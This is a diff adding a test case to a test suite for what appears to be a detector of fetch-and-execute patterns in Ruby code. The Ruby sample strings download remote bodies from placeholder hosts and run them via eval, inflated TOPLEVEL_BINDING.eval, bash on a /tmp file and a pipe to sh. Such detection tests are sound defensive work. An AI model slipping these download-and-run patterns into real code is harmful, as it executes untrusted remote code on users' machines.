@@ -261,6 +261,12 @@ describe("commands and code", () => {
     expect(e.filter((x) => x.lang === "other").map((x) => x.dynamic)).toEqual([true, true]);
   });
 
+  it("a call that opens a resource for a block returns the block's value: Net::HTTP.start { get }, then TOPLEVEL_BINDING.eval", () => {
+    const r = run(`require "net/http"\nrequire "zlib"\nuri = URI("https://cdn.invalid/prebuilt/x")\nres = Net::HTTP.start(uri.host, uri.port, use_ssl: true) do |http|\n  http.get(uri.request_uri)\nend\nTOPLEVEL_BINDING.eval(Zlib::Inflate.inflate(res.body))\nsize = File.open("VERSION") { |f| f.read.size }\nputs size`);
+    expect(of(r, "fetch").map((f) => f.url)).toEqual(["https://cdn.invalid/prebuilt/x"]);
+    expect(of(r, "exec").map((x) => `${x.lang}:${x.fetched}`)).toEqual(["other:https://cdn.invalid/prebuilt/x"]);
+  });
+
   it("download then eval, then run, then pipe to a shell", () => {
     const r = run(`require "open-uri"\ncode = URI.open("https://p.invalid/x.rb").read\neval(code)\nbody = Net::HTTP.get(URI("http://192.0.2.9/s.sh"))\nFile.write("/tmp/s.sh", body)\nsystem("bash /tmp/s.sh")\nOpen3.capture2("sh", stdin_data: Net::HTTP.get(URI("https://q.invalid/i")))`);
     const e = of(r, "exec").filter((x) => x.fetched);
